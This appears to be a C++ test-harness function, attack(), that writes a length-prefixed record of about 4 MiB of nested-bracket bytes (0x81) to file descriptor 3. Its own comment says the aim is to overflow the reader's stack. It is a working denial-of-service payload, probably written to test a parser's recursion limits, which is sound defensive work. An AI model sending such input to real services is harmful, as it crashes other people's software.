// An answer of brackets inside brackets, to overflow the stack of whoever reads it.
static void attack() {
    const std::size_t length = 4 << 20;
    std::string record(reinterpret_cast<const char*>(&length), sizeof length);
    record += std::string(length, '\x81');
    for (std::size_t sent = 0; sent < record.size();) {
        const ssize_t got = write(3, record.data() + sent, record.size() - sent);
        if (got <= 0) break;
        sent += static_cast<std::size_t>(got);
    }
    _exit(0);
}
